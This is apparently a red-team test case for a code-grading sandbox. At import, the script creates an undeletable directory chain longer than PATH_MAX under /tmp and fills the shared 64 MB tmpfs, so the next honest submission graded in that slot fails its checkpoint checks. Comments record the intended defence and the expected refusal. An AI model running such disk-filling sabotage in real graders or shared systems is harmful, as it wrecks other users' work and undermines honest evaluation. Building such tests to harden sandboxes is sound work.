"""Row 40 (state across submissions), topic 5-07: at import, a folder chain under /tmp past
PATH_MAX (which the fork server's clean-up cannot delete) is filled with 15 MB files (under the
16 MB file size limit) until the jail's 64 MB tmpfs (/, /tmp and /work) is full. The next
submission graded by the same slot, the honest reference, loses the checks that save a
checkpoint to a temporary folder: "No space left on device"."""

ROW = 40
TOPIC = "torch_fundamentals"
FOLLOWED_BY = "reference"
# WIN on current code: the honest follower scores less than alone. Defence: a fresh tmpfs per
# topic (and os outside the allowlist).
EXPECT = {"refused": True, "unscanned": {}}

import os  # noqa: E402


def _deep_chain(root, depth, name="d"):
    """root/__NAME__/name/name/... `depth` levels, made with relative mkdir + chdir (no path
    is ever longer than a name); returns with the bottom as the working folder."""
    os.chdir(root)
    os.makedirs("__NAME__", exist_ok=True)
    os.chdir("__NAME__")
    for _ in range(depth):
        os.mkdir(name)
        os.chdir(name)


_deep_chain("/tmp", 2100)
_BLOCK = b"\0" * (1 << 20)
try:
    for _k in range(64):
        with open(f"fill-{_k}", "wb") as _handle:
            for _ in range(15):
                _handle.write(_BLOCK)
except OSError as error:
    print(f"filled: {error}", flush=True)
os.chdir("/work")
